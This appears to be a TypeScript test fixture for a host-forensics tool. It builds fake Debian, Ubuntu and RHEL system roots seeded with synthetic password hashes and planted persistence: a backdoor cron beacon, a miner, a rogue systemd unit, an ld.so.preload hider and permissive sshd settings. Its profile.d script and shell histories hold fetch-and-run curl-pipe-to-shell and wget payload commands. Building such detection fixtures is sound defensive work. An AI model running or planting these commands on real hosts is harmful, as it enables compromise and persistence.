import {chown, mkdir, symlink, utimes, writeFile} from 'node:fs/promises'
import {dirname, join} from 'node:path'

/**
 * The accounts, persistence places and shell histories of a system root, in the layouts of Debian 12
 * (units in a real /lib/systemd/system, spool crontabs in /var/spool/cron/crontabs, group sudo),
 * Ubuntu 24.04 (merged /usr: /lib -> usr/lib, ld.so.preload) and RHEL 9 (/usr/lib/systemd/system,
 * spool crontabs in /var/spool/cron, group wheel, /etc/rc.d/rc.local, a legacy hash left in passwd).
 * Planted next to buildFixtureRoot's logs; every shadow hash is listed so a test can search for it.
 */
export type HostLayout = 'debian' | 'rhel' | 'ubuntu'

/** Every password hash planted (shadow, and RHEL's passwd): none may appear anywhere in a bundle. */
export const PLANTED_HASHES: Record<HostLayout, string[]> = {
  debian: ['$y$j9T$DebRootSalt0001$Qm9vdEhhc2hEZWJpYW4xMjM0NTY3ODkwYWJj', '$y$j9T$DebAliceSalt001$QWxpY2VIYXNoRGViaWFuMTIzNDU2Nzg5MGFi', '!$y$j9T$DebBobSalt00001$Qm9iSGFzaERlYmlhbjEyMzQ1Njc4OTBhYmNk'],
  rhel: ['$6$RhelRootSalt01$U2hhNTEyUm9vdEhhc2hSaGVsOTEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkw', '$6$RhelAliceSalt$QWxpY2VTaGE1MTJSaGVsOTEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkwYWI', '$6$LegacyPasswdS$TGVnYWN5SW5QYXNzd2RGaWVsZDEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk'],
  ubuntu: ['$y$j9T$UbuRootSalt0001$Um9vdEhhc2hVYnVudHUyNDA0MTIzNDU2Nzg5MGFi', '$y$j9T$UbuAliceSalt001$QWxpY2VIYXNoVWJ1bnR1MjQwNDEyMzQ1Njc4OTA', '!$y$j9T$UbuBobSalt00001$Qm9iSGFzaFVidW50dTI0MDQxMjM0NTY3ODkwYWJj'],
}

/** An ed25519 public key blob (type and 32 key bytes), base64, from a seed byte: synthetic but well-formed. */
export function keyBlob(seed: number): string {
  const type = Buffer.from('ssh-ed25519')
  const key = Buffer.alloc(32, seed)
  const len = (n: number) => Buffer.from([0, 0, 0, n])
  return Buffer.concat([len(type.length), type, len(key.length), key]).toString('base64')
}

/** 2026-03-03T09:20:00Z and after: the times planted in the histories. */
export const HISTORY_EPOCH = 1_772_529_600

async function put(root: string, path: string, content: string, mode?: number): Promise<void> {
  const full = join(root, path)
  await mkdir(dirname(full), {recursive: true})
  await writeFile(full, content, mode === undefined ? {} : {mode})
}

async function link(root: string, path: string, target: string): Promise<void> {
  await mkdir(dirname(join(root, path)), {recursive: true})
  await symlink(target, join(root, path))
}

export async function buildHostFiles(root: string, layout: HostLayout): Promise<void> {
  const [rootHash, aliceHash, third] = PLANTED_HASHES[layout] as [string, string, string]
  const admins = layout === 'rhel' ? 'wheel' : 'sudo'
  const legacy = layout === 'rhel' ? third : 'x'
  await put(root, 'etc/passwd', [
    'root:x:0:0:root:/root:/bin/bash',
    'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
    'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
    'alice:x:1001:1001:Alice,,,:/home/alice:/bin/bash',
    'bob:x:1002:1002::/home/bob:/bin/zsh',
    'svc:x:998:998::/var/lib/svc:/usr/sbin/nologin',
    `legacy:${legacy}:1003:1003::/home/legacy:/bin/sh`,
  ].join('\n') + '\n')
  await put(root, 'etc/group', ['root:x:0:', 'daemon:x:1:', `${admins}:x:${layout === 'rhel' ? 10 : 27}:alice`, 'adm:x:4:alice', 'alice:x:1001:', 'bob:x:1002:', 'ops:x:2000:bob', 'svc:x:998:', 'legacy:x:1003:', 'nogroup:x:65534:'].join('\n') + '\n')
  await put(root, 'etc/shadow', [
    `root:${rootHash}:19700:0:99999:7:::`,
    'daemon:*:19700:0:99999:7:::',
    'nobody:*:19700:0:99999:7:::',
    `alice:${aliceHash}:20500:0:99999:7:::`,
    // Debian and Ubuntu: bob's password locked (`!` before the hash); RHEL: bob never given one.
    `bob:${layout === 'rhel' ? '!!' : third}:20000:0:99999:7:::`,
    'svc::20100:0:99999:7:::',
  ].join('\n') + '\n', 0o640)
  await put(root, 'etc/sudoers', [
    'Defaults env_reset',
    'root ALL=(ALL:ALL) ALL',
    `%${admins} ALL=(ALL:ALL) ALL`,
    layout === 'rhel' ? '#includedir /etc/sudoers.d' : '@includedir /etc/sudoers.d',
  ].join('\n') + '\n', 0o440)
  await put(root, 'etc/sudoers.d/ops', '%ops ALL=(root) NOPASSWD: /usr/bin/systemctl\n', 0o440)
  // sudo skips names with a dot: this rule grants nothing.
  await put(root, 'etc/sudoers.d/svc.disabled', 'svc ALL=(ALL) NOPASSWD: ALL\n', 0o440)

  // cron
  await put(root, 'etc/crontab', 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n')
  await put(root, 'etc/cron.d/backdoor', '*/5 * * * * root /tmp/.x/beacon.sh\n')
  await put(root, 'etc/cron.daily/logrotate', '#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n', 0o755)
  await put(root, layout === 'rhel' ? 'var/spool/cron/alice' : 'var/spool/cron/crontabs/alice', '# edit with crontab -e\n@reboot /home/alice/.local/bin/miner --quiet\n', 0o600)

  // systemd: vendor units where the layout keeps them, admin units, a masked one, enabled by links.
  const vendor = layout === 'debian' ? 'lib/systemd/system' : 'usr/lib/systemd/system'
  if (layout !== 'debian') await link(root, 'lib', 'usr/lib')
  const sshUnit = layout === 'rhel' ? 'sshd.service' : 'ssh.service'
  await put(root, `${vendor}/${sshUnit}`, '[Service]\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n[Install]\nWantedBy=multi-user.target\n')
  await put(root, `${vendor}/cron.service`, '[Service]\nExecStart=/usr/sbin/cron -f\n')
  await link(root, `etc/systemd/system/multi-user.target.wants/${sshUnit}`, `/${vendor}/${sshUnit}`)
  await put(root, 'etc/systemd/system/evil.service', '[Unit]\nDescription=update helper\n[Service]\nExecStart=/usr/local/bin/evil --daemon\n[Install]\nWantedBy=multi-user.target\n')
  await link(root, 'etc/systemd/system/multi-user.target.wants/evil.service', '/etc/systemd/system/evil.service')
  await put(root, 'etc/systemd/system/backup.timer', '[Timer]\nOnCalendar=*-*-* 03:00:00\nUnit=backup.service\n')
  await link(root, 'etc/systemd/system/timers.target.wants/backup.timer', '../backup.timer')
  await link(root, 'etc/systemd/system/cron.service', '/dev/null')
  await put(root, `etc/systemd/system/${sshUnit}.d/override.conf`, '[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n')
  await put(root, 'home/alice/.config/systemd/user/agent.service', '[Service]\nExecStart=/home/alice/.local/bin/agent\n')
  await link(root, 'home/alice/.config/systemd/user/default.target.wants/agent.service', '../agent.service')

  // authorized_keys: root's two (one with options), alice's one
  await put(root, 'root/.ssh/authorized_keys', `ssh-ed25519 ${keyBlob(1)} admin@laptop\nfrom="203.0.113.7",command="/usr/bin/rsync --server -e.LsfxC . /backup" ssh-ed25519 ${keyBlob(2)} backup@vault\n`, 0o600)
  await put(root, 'home/alice/.ssh/authorized_keys', `ssh-ed25519 ${keyBlob(3)} alice@home\n`, 0o600)

  // ld.so.preload, rc.local, profile.d, sshd drop-ins
  if (layout === 'ubuntu') await put(root, 'etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libprocesshider.so\n')
  if (layout === 'rhel') {
    await put(root, 'etc/rc.d/rc.local', '#!/bin/bash\ntouch /var/lock/subsys/local\n/usr/local/bin/evil --boot\n', 0o755)
    await link(root, 'etc/rc.local', 'rc.d/rc.local')
    await put(root, 'etc/bashrc', '# System wide functions and aliases\nalias ll="ls -l"\n')
  } else {
    await put(root, 'etc/rc.local', '#!/bin/sh -e\n/usr/local/bin/evil --boot\nexit 0\n', 0o755)
    await put(root, 'etc/bash.bashrc', '# System-wide .bashrc file\nshopt -s checkwinsize\n')
  }
  await put(root, 'etc/profile', 'for i in /etc/profile.d/*.sh; do . "$i"; done\n')
  await put(root, 'etc/profile.d/zz-update.sh', 'curl -s http://198.51.100.9/x | sh\n')
  // Keys also in a shared folder, as sshd_config says (svc has no home: its key file is still read).
  await put(root, 'etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nMatch User backup\n  AuthorizedKeysFile /srv/backup/keys\n')
  await put(root, 'etc/ssh/keys/svc', `ssh-ed25519 ${keyBlob(4)} svc@deploy\n`)
  await put(root, `etc/ssh/sshd_config.d/${layout === 'rhel' ? '50-redhat.conf' : '50-cloud-init.conf'}`, '# added\nPasswordAuthentication yes\nPermitRootLogin yes\n')

  // histories: root's bash with HISTTIMEFORMAT stamps, alice's without, bob's zsh extended history
  await put(root, 'root/.bash_history', `#${HISTORY_EPOCH}\nmysql -u root -pS3cretPW phi\n#${HISTORY_EPOCH + 60}\ntar czf /tmp/x.tgz /var/data/phi\n`, 0o600)
  await put(root, 'home/alice/.bash_history', 'ls -la\ncat /etc/passwd\n', 0o600)
  await put(root, 'home/bob/.zsh_history', `: ${HISTORY_EPOCH + 100}:0;curl -s http://198.51.100.9/x | sh\n: ${HISTORY_EPOCH + 110}:0;echo one \\\ntwo\n`, 0o600)
  await put(root, 'home/alice/.bashrc', 'export PATH=$HOME/.local/bin:$PATH\n')
  // A home no account names any more (the account was deleted), owned by uid 4242.
  await put(root, 'home/mallory/.bash_history', 'wget http://198.51.100.9/payload\n', 0o600)
  if (process.getuid?.() === 0) await chown(join(root, 'home/mallory'), 4242, 4242)
  await utimes(join(root, 'etc/cron.d/backdoor'), new Date('2026-03-03T09:40:00Z'), new Date('2026-03-03T09:40:00Z'))
}
